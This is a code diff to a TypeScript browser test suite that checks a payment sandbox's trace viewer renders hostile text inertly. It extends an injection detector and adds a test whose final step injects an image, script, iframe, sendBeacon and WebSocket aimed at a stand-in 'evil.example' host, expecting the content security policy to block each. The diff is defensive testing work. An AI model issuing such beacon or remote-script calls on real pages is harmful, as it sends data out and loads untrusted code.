@@ -1,11 +1,15 @@
 import { once } from "node:events";
+import { writeFile } from "node:fs/promises";
 import http from "node:http";
+import { pathToFileURL } from "node:url";
 import type { Page } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { toSafeText } from "../../../src/text/plain/safe-text.ts";
 import { type Sandbox, startSandbox } from "../../../src/index.ts";
 import { startBrowser, type TestBrowser } from "../../support/browser.ts";
 import { BUYER, RECEIVER } from "../../support/calls.ts";
+import { readTrace, recordsAt } from "../../../src/server/trace/trace.ts";
+import { createFolder } from "../../support/folder.ts";
 import { type Merchant, startMerchant } from "../../support/merchant.ts";
 import { PANES } from "../../../src/inspector/state/place.ts";
 
@@ -167,20 +171,25 @@ let held: Promise<Sent>[] = [];
 async function findDamage(page: Page): Promise<readonly string[]> {
   const { damage, texts } = (await page.evaluate(`(() => {
     const damage = [];
-    const texts = [document.body.textContent, document.title];
+    const texts = [document.title];
+    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
+    // The data of a trace is in an element that is not shown.
+    while (walker.nextNode())
+      if (walker.currentNode.parentNode.localName !== "script") texts.push(walker.currentNode.data);
     for (const one of document.querySelectorAll("*")) {
       const { localName } = one;
-      const isOurs = document.head.contains(one) && /inspector|^$/.test(one.getAttribute("src") ?? "") ||
+      const isOurs = one.matches("body > :is(#trace, #worker, script[type=module])") ||
+        document.head.contains(one) && /inspector|^$/.test(one.getAttribute("src") ?? "") ||
         // The script of the payer's page; the policy allows no other.
         one.matches("body > script:last-child") && one.text.startsWith('\\nconst copy = document.querySelector("[data-copied]");');
       if (["script", "iframe", "object", "embed", "base"].includes(localName) && !isOurs)
         damage.push(one.outerHTML);
-      if (localName === "img" && !one.src.startsWith("data:image/png;") &&
+      if (localName === "img" && !one.src.startsWith("data:image/png;") && !one.src.startsWith("blob:") &&
           !one.src.startsWith(location.origin + "/_sandbox/qr.svg?text=")) damage.push(one.outerHTML);
       for (const { name, value } of one.attributes) {
         if (name.startsWith("on") || name === "style" && /url|expression/.test(value)) damage.push(one.outerHTML);
         if (["href", "src", "action", "formaction"].includes(name) &&
-            !["http:", "https:", "data:"].includes(new URL(value, location.href).protocol)) damage.push(one.outerHTML);
+            !["http:", "https:", "data:", location.protocol, localName === "img" && "blob:"].includes(new URL(value, location.href).protocol)) damage.push(one.outerHTML);
         if (["title", "aria-label", "alt", "placeholder"].includes(name)) texts.push(value);
       }
     }
@@ -237,6 +246,64 @@ describe("hostile text", PATIENCE, () => {
     }
     expect(damage).toEqual([]);
     expect(problems).toEqual([]);
+  });
+
+  it("is only text in a trace, before and after Continue", async () => {
+    await using folder = await createFolder();
+    const file = folder.at("trace.html");
+    const html = await (await sandbox.fetch("/_sandbox/trace?masked=false")).text();
+    await writeFile(file, html);
+    // The largest records have no room in it.
+    const kept = recordsAt(readTrace(html, file));
+    await using opened = await browser.open(pathToFileURL(file).href, { offline: true });
+    const { page, problems } = opened;
+    const webhooks = kept.deliveries.all().map(({ id }) => `webhooks/${id}`);
+    const requests = readTrace(html, file).requests.map(({ id }) => `requests/${id}`);
+    const payins = kept.payins.all().map(({ id }) => `payins/${id}`);
+    expect(payins.length).toBeGreaterThan(2);
+    expect(webhooks.length).toBeGreaterThan(1);
+    expect(requests.length).toBeGreaterThan(5);
+    const damage: string[] = [];
+    const look = async (places: readonly string[]): Promise<void> => {
+      await page.locator('html[data-ready="true"]').waitFor();
+      for (const place of places) {
+        await show(page, `#/${place}`);
+        if (place.includes("/")) await page.locator(".detail-side .facts").first().waitFor();
+        await openDetails(page);
+        for (const one of await findDamage(page)) damage.push(`${place}: ${one}`);
+      }
+    };
+    await look([
+      ...PANES.filter((pane) => pane !== "snapshots"),
+      ...payins,
+      ...webhooks,
+      ...requests,
+    ]);
+    await page.getByTestId("continue").click();
+    await page.getByTestId("back").waitFor();
+    await look(payins);
+    await page.getByTestId("copy-as-test").click();
+    damage.push(...(await findDamage(page)));
+    expect(damage).toEqual([]);
+    expect(problems.filter((one) => !one.startsWith("request to blob:"))).toEqual([]);
+
+    // The policy lets nothing reach another origin.
+    await page.evaluate(`(() => {
+      new Image().src = "https://evil.example/image";
+      const script = document.createElement("script");
+      script.src = "https://evil.example/script.js";
+      document.body.append(script);
+      const frame = document.createElement("iframe");
+      frame.src = "https://evil.example/frame";
+      document.body.append(frame);
+      navigator.sendBeacon("https://evil.example/beacon", "1");
+      new WebSocket("wss://evil.example/socket");
+    })()`);
+    const refused = (): string[] =>
+      problems.filter((one) => one.startsWith("policy: ")).map((one) => one.split(" ")[1] ?? "");
+    await expect
+      .poll(() => refused().toSorted())
+      .toEqual(["connect-src", "connect-src", "frame-src", "img-src", "script-src-elem"]);
   });
 
   it("is shown as it was sent, and invisible characters as escapes", async () => {
